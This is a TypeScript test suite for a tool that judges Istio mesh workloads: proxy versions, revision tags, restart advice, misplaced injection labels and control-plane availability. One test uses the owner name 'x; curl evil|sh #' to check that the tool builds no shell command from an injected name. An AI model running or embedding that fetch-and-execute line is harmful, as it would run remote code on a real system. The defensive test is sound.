import { recordAnswers } from '@meshwright/test-kit';
import type { DataState } from '../../api/freshness';
import { assessRawWorkload } from '../../testing/assessRawWorkload';
import { rawInjectorValues, rawTagService } from '../../testing/raw/dataPlane';
import {
  rawInjector,
  rawIstiod,
  rawMesh,
  rawNamespace,
  rawPod,
  rawService,
  rawWorkload,
} from '../../testing/rawObjects';

const WEBHOOKS = 'mutatingwebhookconfigurations.admissionregistration.k8s.io';
const VALIDATORS =
  'validatingwebhookconfigurations.admissionregistration.k8s.io';
const FORBIDDEN = {
  [WEBHOOKS]: 'forbidden',
  [VALIDATORS]: 'forbidden',
} as const;

const answer = recordAnswers(__filename);

function revision(raw: unknown[], states: Record<string, DataState> = {}) {
  return answer(assessRawWorkload(raw, { states }).revision);
}

/** A pod under another owner, or none. */
function ownedPod(owner: Record<string, unknown> | undefined) {
  const pod = rawPod({ name: 'cart', proxy: { version: '1.30.1' } });
  return {
    ...pod,
    metadata: {
      ...pod.metadata,
      ownerReferences: owner ? [{ ...owner, controller: true }] : [],
    },
  };
}

describe('version inside a revision', () => {
  const values = (global: Record<string, unknown>) =>
    rawInjectorValues('1-30-3', global);
  const hub = 'docker.io/istio';

  it.each<[string, string, Record<string, unknown> | undefined, string]>([
    [
      'the tag of the injector beats the version of istiod',
      `${hub}/proxyv2:1.30.3`,
      { hub, tag: '1.30.4' },
      'stale-version',
    ],
    [
      'the tag of the injector is met',
      `${hub}/proxyv2:1.30.4`,
      { hub, tag: '1.30.4' },
      'current',
    ],
    [
      'a variant is no other version',
      `${hub}/proxyv2:1.30.4-distroless`,
      { hub, tag: '1.30.4-debug' },
      'current',
    ],
    [
      'a tag that is no version is compared as it is',
      `${hub}/proxyv2:build-6`,
      { hub, tag: 'build-7' },
      'stale-version',
    ],
    [
      'a whole image name stands for hub and tag',
      `${hub}/proxyv2:1.30.3`,
      { hub, tag: '1.30.3', proxy: { image: 'my.registry/proxy:1.30.5' } },
      'stale-version',
    ],
    [
      'another registry alone is no drift: a mirror may rewrite it',
      'mirror.example.com/istio/proxyv2:1.30.4',
      { hub, tag: '1.30.4' },
      'current',
    ],
    [
      'without values the version of istiod decides',
      `${hub}/proxyv2:1.30.1`,
      undefined,
      'stale-version',
    ],
    [
      'values without a tag say nothing',
      `${hub}/proxyv2:1.30.3`,
      { hub },
      'current',
    ],
    [
      'a digest tells no version',
      `${hub}/proxyv2@sha256:abc`,
      { hub, tag: '1.30.4' },
      'current',
    ],
  ])('%s', (_, image, global, verdict) => {
    const found = revision([
      ...rawMesh(),
      ...(global ? [values(global)] : []),
      rawPod({ proxy: { image } }),
    ]);
    expect(found.verdict).toBe(verdict);
  });

  it('lets a pod alone that names its proxy image itself', () => {
    const pod = rawPod({
      proxy: { version: '1.28.0' },
      annotations: { 'sidecar.istio.io/proxyImage': 'proxyv2:1.28.0' },
    });
    expect(revision([...rawMesh(), pod]).verdict).toBe('current');
  });

  it('names the version that a new pod would get', () => {
    const raw = [...rawMesh(), values({ hub, tag: '1.30.4' })];
    expect(revision([...raw, rawPod({ proxy: {} })]).why.summary).toContain(
      'runs 1.30.4; 1 pod of 1 still on another version',
    );
  });
});

describe('what to do, by kind', () => {
  const stale = (raw: unknown[]) => revision([...rawMesh(), ...raw]).action;
  const outdated = () => rawPod({ proxy: { version: '1.30.1' } });

  it.each([
    [
      'OnDelete',
      { updateStrategy: { type: 'OnDelete' } },
      /then delete its pods/,
    ],
    ['paused', { paused: true }, /resume it first/],
    ['plain', {}, /come up with the desired proxy/],
  ])('a workload that is %s', (_, spec, detail) => {
    const action = stale([
      rawWorkload({
        spec: { template: { metadata: { labels: { app: 'cart' } } }, ...spec },
      }),
      outdated(),
    ]);
    expect(action?.detail).toMatch(detail);
    expect(action?.command).toContain(
      'kubectl rollout restart statefulset/cart -n shop',
    );
  });

  it.each<[string, Record<string, unknown> | undefined, RegExp]>([
    ['a bare pod', undefined, /Nothing recreates a bare pod/],
    [
      'a Job',
      { apiVersion: 'batch/v1', kind: 'Job', name: 'cart' },
      /A Job keeps its pods/,
    ],
    [
      'a CronJob',
      { apiVersion: 'batch/v1', kind: 'Job', name: 'cart-29012345' },
      /Its next run/,
    ],
    [
      'a ReplicaSet',
      { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'cart' },
      /the ReplicaSet replaces each/,
    ],
    [
      'a static pod',
      { apiVersion: 'v1', kind: 'Node', name: 'cart' },
      /from a file on the node/,
    ],
    [
      'another kind',
      { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', name: 'cart' },
      /with the tool of its kind/,
    ],
    [
      'a kind that only has the name of a known one',
      { apiVersion: 'evil/v1', kind: 'StatefulSet', name: 'cart' },
      /with the tool of its kind/,
    ],
  ])('%s gets no restart command', (_, owner, detail) => {
    const action = stale([ownedPod(owner)]);
    expect(action?.detail).toMatch(detail);
    expect(action?.command).toBeUndefined();
  });

  it('puts no name into a command that is one itself', () => {
    const name = 'x; curl evil|sh #';
    const kind = 'StatefulSet';
    const pod = ownedPod({ apiVersion: 'apps/v1', kind, name });
    const { action } = assessRawWorkload([...rawMesh(), pod], {
      name,
    }).revision;
    expect(action?.title).toBe(`Restart ${name}`);
    expect(action).not.toHaveProperty('command');
  });

  it('a managed gateway is upgraded by istiod', () => {
    const pod = rawPod({
      labels: {
        'gateway.networking.k8s.io/gateway-name': 'web',
        'gateway.istio.io/managed': 'istio.io-gateway-controller',
        'istio.io/rev': '1-29-4',
      },
      spec: {
        containers: [
          {
            name: 'istio-proxy',
            image: 'docker.io/istio/proxyv2:1.29.4',
            args: ['proxy', 'router'],
          },
        ],
      },
      annotations: { 'istio.io/rev': '1-28-0' },
    });
    expect(stale([pod, rawIstiod('1-29-4', '1.29.4')])).toMatchObject({
      title: 'Let istiod upgrade web',
      detail: expect.stringContaining('istio.io/rev of the Gateway to 1-29-4'),
    });
  });

  it('a gateway with its own image follows its chart', () => {
    const pod = rawPod({
      spec: {
        containers: [
          {
            name: 'istio-proxy',
            image: 'docker.io/istio/proxyv2:1.29.4',
            args: ['proxy', 'router'],
          },
        ],
      },
      annotations: { 'istio.io/rev': '1-30-3' },
    });
    const action = stale([pod]);
    expect(action).toMatchObject({
      title: 'Upgrade cart',
      detail: expect.stringContaining('upgrade its chart to 1.30.3'),
    });
    expect(action?.command).toBeUndefined();
  });

  it('an istiod that is not ready is to be repaired, not replaced', () => {
    const raw = [
      ...rawMesh().filter(one => one.kind !== 'Deployment'),
      rawIstiod('1-30-3', '1.30.3', false),
      rawPod({ proxy: {} }),
    ];
    expect(revision(raw)).toMatchObject({
      verdict: 'dangling',
      action: { title: 'Repair istiod 1-30-3' },
    });
  });
});

describe('labels in the wrong place', () => {
  const inNamespace = (
    labels: Record<string, string>,
    template: Record<string, unknown>,
  ) =>
    revision([
      rawIstiod('1-30-3', '1.30.3'),
      rawInjector('1-30-3', 'prod'),
      rawNamespace('shop', labels),
      rawWorkload({ template }),
      rawPod(),
    ]);

  it.each<[string, Record<string, string>, Record<string, unknown>, string]>([
    [
      "the namespace's switch on a pod",
      {},
      { metadata: { labels: { app: 'cart', 'istio-injection': 'enabled' } } },
      'istio-injection=enabled on the pod template is read on namespaces only',
    ],
    [
      "the pod's switch on a namespace",
      { 'sidecar.istio.io/inject': 'true' },
      {},
      'sidecar.istio.io/inject=true on the namespace is read on pods only',
    ],
    [
      "the pod's switch as an annotation alone",
      {},
      {
        metadata: {
          labels: { app: 'cart' },
          annotations: { 'sidecar.istio.io/inject': 'true' },
        },
      },
      'sidecar.istio.io/inject=true on the pod template is an annotation, and Istio reads the label only',
    ],
  ])('%s', (_, labels, template, summary) => {
    expect(inNamespace(labels, template)).toMatchObject({
      verdict: 'mislabelled',
      why: { summary },
    });
  });

  it('is not said where the pod is meant to stay out', () => {
    expect(
      inNamespace({ 'sidecar.istio.io/inject': 'false' }, {}).verdict,
    ).toBe('not-in-mesh');
  });
});

describe('with least privilege, webhooks unread', () => {
  const mesh = (labels: Record<string, string>, ...more: unknown[]) => [
    rawIstiod('1-30-3', '1.30.3'),
    rawNamespace('istio-system'),
    rawNamespace('shop', labels),
    rawPod({ proxy: {} }),
    ...more,
  ];

  it.each<[string, unknown[], object]>([
    [
      'a label that names a revision',
      mesh({ 'istio.io/rev': '1-30-3' }),
      { verdict: 'current', desired: '1-30-3' },
    ],
    [
      'a label that names a tag which a Service has',
      mesh({ 'istio.io/rev': 'prod' }, rawTagService('prod', '1-30-3')),
      { verdict: 'current', desired: '1-30-3', tag: 'prod' },
    ],
    [
      'a tag on a Service elsewhere counts for nothing',
      mesh(
        { 'istio.io/rev': 'prod' },
        rawService({
          name: 'fake',
          labels: { 'istio.io/tag': 'prod', 'istio.io/rev': '1-29-4' },
        }),
      ),
      { verdict: 'unknown' },
    ],
    [
      'istio-injection with a default tag',
      mesh(
        { 'istio-injection': 'enabled' },
        rawTagService('default', '1-30-3'),
      ),
      { verdict: 'current', desired: '1-30-3', tag: 'default' },
    ],
    [
      'the default tag beats a revision of that name',
      mesh(
        { 'istio-injection': 'enabled' },
        rawIstiod('default', '1.29.4'),
        rawTagService('default', '1-30-3'),
      ),
      { verdict: 'current', desired: '1-30-3', tag: 'default' },
    ],
    [
      'istio-injection beats istio.io/rev',
      mesh({ 'istio-injection': 'disabled', 'istio.io/rev': '1-30-3' }),
      { verdict: 'unexpected' },
    ],
    [
      'istio-injection without any default',
      mesh({ 'istio-injection': 'enabled' }),
      { verdict: 'unknown' },
    ],
  ])('%s', (_, raw, expected) => {
    expect(revision(raw, FORBIDDEN)).toMatchObject(expected);
  });

  it('says why a name is not known, and calls nothing stale', () => {
    const found = revision(mesh({ 'istio.io/rev': 'prod' }), FORBIDDEN);
    expect(found).toMatchObject({
      verdict: 'unknown',
      tone: 'unknown',
      why: {
        summary:
          'Not known: webhooks are forbidden, and prod is neither a revision nor a tag that a Service names',
      },
    });
    expect(found.action).toBeUndefined();
  });

  it('goes by the default validator where that may be read', () => {
    const validator = {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: 'ValidatingWebhookConfiguration',
      metadata: {
        name: 'istiod-default-validator',
        labels: { 'istio.io/rev': '1-30-3' },
      },
      webhooks: [{ name: 'validation.istio.io' }],
    };
    const raw = mesh({ 'istio-injection': 'enabled' }, validator);
    expect(revision(raw, { [WEBHOOKS]: 'forbidden' })).toMatchObject({
      verdict: 'current',
      desired: '1-30-3',
    });
  });
});

describe('the control plane of the desired revision', () => {
  const injectorAt = (clientConfig: object, failurePolicy?: string) => {
    const injector = rawInjector('1-29-4', 'prod');
    return {
      ...injector,
      webhooks: injector.webhooks.map(one => ({
        ...one,
        clientConfig,
        ...(failurePolicy && { failurePolicy }),
      })),
    };
  };
  const other = rawIstiod('1-30-3', '1.30.3');
  const pod = rawPod({ proxy: { revision: '1-29-4', version: '1.29.4' } });
  const shop = rawNamespace('shop', { 'istio.io/rev': 'prod' });
  const service = { service: { namespace: 'istio-system', name: 'istiod' } };
  const istiodService = (spec: object) =>
    rawService({
      name: 'istiod',
      namespace: 'istio-system',
      spec: { selector: undefined, ...spec },
    });

  it.each<[string, unknown[], Record<string, DataState>, string, RegExp]>([
    [
      'is elsewhere where a URL answers',
      [injectorAt({ url: 'https://istiod.example.com' })],
      {},
      'current',
      /runs outside this cluster/,
    ],
    [
      'is elsewhere where the Service selects no pods',
      [injectorAt(service), istiodService({})],
      {},
      'current',
      /runs outside this cluster/,
    ],
    [
      'is missing where the Service is gone',
      [injectorAt(service, 'Fail')],
      {},
      'dangling',
      /no istiod of revision 1-29-4 is there, so new pods are refused/,
    ],
    [
      'is missing where the Service selects pods and none is of the revision',
      [
        injectorAt(service, 'Ignore'),
        istiodService({ selector: { app: 'x' } }),
      ],
      {},
      'dangling',
      /is there, so new pods start without a proxy/,
    ],
    [
      'is not judged while Services are unread',
      [injectorAt(service)],
      { services: 'forbidden' },
      'current',
      /^prod → 1-29-4, from namespace label istio.io\/rev$/,
    ],
    [
      'is not judged while Deployments are unread',
      [injectorAt(service)],
      { 'deployments.apps': 'forbidden' },
      'current',
      /^prod → 1-29-4/,
    ],
  ])('%s', (_, raw, states, verdict, summary) => {
    const deployments = 'deployments.apps' in states ? [] : [other];
    const found = revision([...deployments, shop, pod, ...raw], states);
    expect(found.verdict).toBe(verdict);
    expect(found.why.summary).toMatch(summary);
  });
});
